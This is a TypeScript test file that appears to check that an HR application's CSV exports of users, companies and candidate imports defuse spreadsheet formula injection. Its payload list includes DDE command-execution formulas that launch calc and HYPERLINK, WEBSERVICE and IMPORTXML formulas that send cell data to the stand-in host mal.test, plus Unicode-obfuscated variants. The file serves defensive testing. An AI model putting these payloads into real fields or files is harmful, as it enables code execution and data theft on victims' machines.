import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { confirmImportacion } from '#functions/candidatos/importaciones/confirm-importacion.ts';
import { createImportacion } from '#functions/candidatos/importaciones/create-importacion.ts';
import { exportImportacion } from '#functions/candidatos/importaciones/export-importacion.ts';
import { importCandidatos } from '#functions/candidatos/importaciones/import-candidatos.ts';
import { exportDatos } from '#functions/cifras/exportaciones/export-datos.ts';
import { createEmpresa } from '#functions/empresas/empresas/create-empresa.ts';
import { inviteUsuario } from '#functions/empresas/usuarios/invite-usuario.ts';
import { isValidTaxId } from '#shared/empresas/empresas/tax-id.ts';
import { aCompany } from '#test/support/scenarios.ts';
import { TestApp } from '#test/support/test-app.ts';

/** What a spreadsheet runs or asks for when it opens a file, in the ways in which people have hidden it. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://mal.test/?"&A1;"ver")',
  "=cmd|'/C calc'!A0",
  '=WEBSERVICE("http://mal.test")',
  '=IMPORTXML("http://mal.test";"//a")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-1+1',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '|calc',
  '%0A=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u2060=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  'x\t=1+1',
  '"=1+1',
  '";=1+1',
  '",=1+1,"',
  'x\n=1+1',
];
const RUNS = /^[\s\p{Cf}]*[=+\-@|%＝＋－＠]/u;

/** The cells of a file, none of which may run or have broken out of its place. */
function expectHarmless(text: string, rows: number): void {
  const { data, errors } = Papa.parse<string[]>(text.trim());
  expect(errors).toEqual([]);
  expect(data).toHaveLength(rows + 1);
  expect(new Set(data.map((row) => row.length)).size).toBe(1);
  expect(data.flat().filter((cell) => RUNS.test(cell))).toEqual([]);
}

describe(`A file for spreadsheets, with ${FORMULAS.length} formulas in it, holds none that runs:`, () => {
  it('users', async () => {
    const app = new TestApp();
    const { superadmin, admin } = await aCompany(app, { plan: 'enterprise' });
    let rows = 3;
    for (const [n, formula] of FORMULAS.entries()) {
      const body = { nombre: `${formula} x`, email: `n${n}@correo.test`, rol: 'operador' };
      if ((await app.call(inviteUsuario, { as: admin, body })).status === 201) rows++;
    }
    expect(rows).toBeGreaterThan(20);
    const { text } = await app.call(exportDatos, { as: superadmin, params: { tipo: 'usuarios' } });
    expectHarmless(text, rows);
  });

  it.each(['facturacion', 'analytics'])('companies, in %s', async (tipo) => {
    const app = new TestApp();
    const superadmin = await app.addUsuario({ rol: 'superadmin', empresaId: null });
    let rows = 0;
    for (const formula of FORMULAS) {
      const nombre = `${formula} x`;
      const body = { nombreLegal: nombre, nombreComercial: nombre, cif: cifOf(rows), email: `n${rows}@correo.test` };
      if ((await app.call(createEmpresa, { as: superadmin, body })).status === 201) rows++;
    }
    expect(rows).toBeGreaterThan(17);
    const { text } = await app.call(exportDatos, { as: superadmin, params: { tipo } });
    expectHarmless(text, rows);
  });

  it('what came of an import', async () => {
    const app = new TestApp();
    const { admin: as } = await aCompany(app, { plan: 'enterprise' });
    const lines = FORMULAS.map((formula, n) => [`${formula} x`, `n${n}@correo.test`, formula]);
    const form = new FormData();
    form.append('archivo', new File([Papa.unparse([['Nombre', 'Correo', 'Puesto'], ...lines])], 'lista.csv'));
    const { data } = await app.call<{ id: string }>(createImportacion, { as, form });
    const params = { id: data.id };
    expect((await app.call(confirmImportacion, { as, params, body: {} })).status).toBe(202);
    await app.deliver(importCandidatos);
    const { text } = await app.call(exportImportacion, { as, params });
    expectHarmless(text, FORMULAS.length);
  });
});

/** Different for each number, with the check digit that belongs to it. */
function cifOf(n: number): string {
  const digits = String(1_000_000 + n);
  return [...'0123456789'].map((check) => `F${digits}${check}`).find((id) => isValidTaxId('España', id)) ?? '';
}
